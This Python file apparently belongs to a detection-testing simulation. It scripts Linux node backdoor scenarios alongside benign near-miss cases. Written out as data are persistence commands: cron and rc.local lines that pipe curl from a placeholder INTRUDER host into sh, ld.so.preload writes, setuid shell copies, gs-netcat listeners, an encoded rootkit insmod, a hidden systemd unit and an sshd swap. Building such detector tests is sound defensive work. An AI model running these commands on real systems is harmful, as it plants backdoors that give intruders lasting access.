"""Commands that let an intruder stay: preloaded libraries, cron, units, setuid shells, known backdoors."""

from __future__ import annotations

from simulation.attacks.register import careful, near_miss
from simulation.attacks.scene import Scene
from simulation.attacks.shells import Started
from simulation.attacks.tables import Place, encoded, line, run, table
from simulation.schedule import Life

BACKDOOR = "K8S.NODE_LinuxBackdoorArtifact"
COMBO = "K8S.NODE_DownloadAndRunCombo"
FETCH = "* * * * * root curl -fsS http://INTRUDER/x | sh"
INSTALL = ("apt-get install -y fuse3", "/usr/bin/dpkg --configure -a", "/bin/sh /var/lib/dpkg/info/fuse3.postinst")

table(
    BACKDOOR,
    straight=[
        line("echo /usr/local/lib/libk.so > /etc/ld.so.preload", runs=[], at=Place.HOST),
        line(
            '(crontab -l; echo "*/5 * * * * curl -fsS http://INTRUDER/x | sh") | crontab -',
            runs=["crontab -l", "crontab -"],
            at=Place.HOST,
        ),
        line("cp /bin/bash /var/tmp/.b && chmod 4755 /var/tmp/.b", at=Place.EXEC),
        run("gs-netcat -s InventedSecret -l -i -D", at=Place.EXEC),
        line(
            "wget -q http://INTRUDER/d -O /opt/d && chmod +x /opt/d && /opt/d &",
            runs=["wget -q http://INTRUDER/d -O /opt/d", "chmod +x /opt/d", "/opt/d"],
            at=Place.EXEC,
            also=(COMBO,),
        ),
    ],
    careful=[
        line(
            "p=ld.so; printf '%s\\n' /usr/local/lib/libk.so | tee -a /etc/$p.pre''load",
            runs=["tee -a /etc/ld.so.preload"],
            at=Place.HOST,
        ),
        line(f"printf '%s\\n' '{FETCH}' >> /host/etc/cron.d/sysstat", runs=[], at=Place.EXEC),
        run("install -m 6755 /bin/dash /usr/lib/x86_64-linux-gnu/.ld", at=Place.HOST),
        run(("setcap", "cap_setuid+ep", "/usr/local/bin/python3.12"), at=Place.EXEC),
        run("/opt/update", at=Place.HOST, touches=("/etc/ld.so.preload", True)),
        run(
            ("python3", "-c", "open('/etc/rc.local','a').write('curl -s http://INTRUDER/r|sh &')"),
            at=Place.HOST,
            touches=("/etc/rc.local", True),
        ),
        run(("env", "GS_ARGS=-s InventedSecret -liqD", "/usr/bin/gs-dbus"), runs=["/usr/bin/gs-dbus"], at=Place.HOST),
        line(
            f"echo {encoded('insmod /opt/diamorphine.ko')} | base64 -d | sh",
            runs=["base64 -d", Started("sh", ["insmod /opt/diamorphine.ko"])],
            at=Place.HOST,
        ),
    ],
    quiet=[
        run("crontab -l", at=Place.HOST),
        run("systemctl enable --now chrony.service", at=Place.HOST),
        run("chmod u+s /usr/bin/fusermount3", at=Place.HOST, under=INSTALL),
        line(
            "printf 'export NVM_DIR=\"$HOME/.nvm\"\\n' >> /home/operator/.bashrc",
            runs=[],
            interpreter="bash",
            at=Place.HOST,
            uid=1000,
            under=("bash /home/operator/.nvm/install.sh",),
        ),
    ],
)


@careful(BACKDOOR)
def a_unit_of_its_own(scene: Scene) -> Life:
    """A systemd unit that starts a hidden file is laid beside the node's own, and enabled under a common name."""
    shell = scene.host_shell()
    yield scene.pause()
    text = "[Service]\\nExecStart=/usr/lib/.cache/netd\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n"
    target = "/etc/systemd/system/network-helper.service"
    shell.line(f"printf '{text}' > {target}", BACKDOOR, runs=[], interpreter="bash")
    yield scene.pause(3, 9)
    shell.run("systemctl daemon-reload")
    shell.run("systemctl enable -q --now network-helper.service", after=400_000)


@careful(BACKDOOR)
def the_ssh_server_is_replaced(scene: Scene) -> Life:
    """The SSH server's binary is set aside, and another one is put in its place with the times of the old one."""
    shell = scene.host_shell()
    yield scene.pause()
    shell.run("mv /usr/sbin/sshd /usr/sbin/sshd.dpkg")
    yield scene.pause(2, 6)
    shell.run("cp -f /root/.k/sshd /usr/sbin/sshd", BACKDOOR)
    yield scene.pause(2, 6)
    shell.run("chmod 755 /usr/sbin/sshd")
    shell.run("systemctl restart ssh", after=500_000)


@near_miss(BACKDOOR)
def a_package_brings_a_unit(scene: Scene) -> Life:
    """Somebody installs a package, whose scripts enable its unit."""
    shell = scene.host_shell()
    yield scene.pause()
    install = shell.run("apt-get install -y chrony", seconds=14)
    yield scene.pause(5, 9)
    configure = shell.run("/usr/bin/dpkg --configure chrony", under=install, seconds=4)
    script = shell.run("/bin/sh /var/lib/dpkg/info/chrony.postinst configure", under=configure, seconds=3)
    shell.run("/usr/bin/deb-systemd-helper enable chrony.service", under=script, after=300_000)
    shell.run("systemctl --system daemon-reload", under=script, after=900_000)
